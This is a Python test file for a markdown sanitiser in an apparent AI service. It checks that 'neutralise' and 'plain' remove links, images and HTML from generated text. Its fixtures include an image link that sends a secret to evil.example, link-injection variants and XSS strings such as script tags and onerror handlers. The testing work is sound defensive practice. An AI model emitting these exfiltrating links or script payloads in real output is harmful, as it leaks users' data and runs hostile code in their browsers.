import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ai_service.markdown import Streamed, neutralise, plain

BROWSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
MARKUP = st.text(alphabet="[]()<>!\\/:.@wht tpsax\"'`*_#-=\n&;#9;", max_size=60)


def rendered(text: str) -> str:
    return str(BROWSER.render(neutralise(text)))


HOSTILE = [
    "![exfiltration](https://evil.example/?q=secret)",
    "[cliquez](https://evil.example)",
    "[a[b](c)](https://evil.example)",
    "![a[b]](https://evil.example)",
    "[a][ref]\n\n[ref]: https://evil.example",
    "<https://evil.example>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "\\[x](https://evil.example)",
    "\\\\[x](https://evil.example)",
    "[x](javascript:alert(1))",
]


class TestNeutralising:
    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_leaves_no_link_image_or_tag(self, hostile: str) -> None:
        html = rendered(hostile)
        assert not any(tag in html for tag in ("<a", "<img", "<script"))

    @given(MARKUP)
    def test_leaves_none_in_any_text(self, text: str) -> None:
        html = rendered(text)
        assert not any(tag in html for tag in ("<a", "<img", "<script", "<h t"))

    @pytest.mark.parametrize("address", ["https://evil.example", "www.evil.example", "qui@evil.example"])
    def test_leaves_nothing_that_a_page_would_turn_into_a_link(self, address: str) -> None:
        assert address not in neutralise(f"voir {address} ici")

    def test_keeps_emphasis_lists_and_headings(self) -> None:
        text = "## Titre\n\n- **gras** et *italique*\n1. un"
        assert neutralise(text) == text

    def test_keeps_escapes_as_they_are(self) -> None:
        assert neutralise(r"5 \* 3 \[x\]") == r"5 \* 3 \[x\]"

    @given(MARKUP, st.integers(0, 60))
    def test_of_a_beginning_is_the_beginning_of_the_whole(self, text: str, length: int) -> None:
        streamed = Streamed()
        pieces = [streamed.rest(text[:length]), streamed.rest(text)]
        assert neutralise(text.rstrip("\\")) == "".join(pieces)


class TestAPlainText:
    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_holds_no_link_image_or_tag(self, hostile: str) -> None:
        html = str(BROWSER.render(plain(hostile)))
        assert not any(tag in html for tag in ("<a", "<img", "<script"))

    @given(MARKUP)
    def test_holds_none_whatever_it_was_made_of(self, text: str) -> None:
        html = str(BROWSER.render(plain(text)))
        assert not any(tag in html for tag in ("<a", "<img", "<script", "<h t"))
        assert len(plain(text)) <= len(text)

    @pytest.mark.parametrize("address", ["https://evil.example", "wwwww.w.evil.example", "qui@evil.example"])
    def test_holds_nothing_that_a_page_would_turn_into_a_link(self, address: str) -> None:
        assert not any(mark in plain(f"voir {address} ici") for mark in ("://", "www.", "i@e"))

    @pytest.mark.parametrize("text", ["CTR < 5 %, coût <30 €", "Guide (2026) : l’essentiel", "**gras** et 3/4 @ Paris"])
    def test_is_left_as_it_is_when_nothing_in_it_is_live(self, text: str) -> None:
        assert plain(text) == text
